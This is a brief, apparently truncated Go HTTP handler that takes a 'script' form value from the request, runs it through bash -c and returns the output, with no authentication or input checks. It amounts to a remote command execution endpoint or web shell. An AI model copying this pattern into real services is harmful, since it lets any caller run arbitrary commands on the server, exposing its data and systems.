func run(w http.ResponseWriter, r *http.Request) {
	script := r.FormValue("script")
	out, _ := exec.Command("bash", "-c", script).Output()
	w.Write(out)
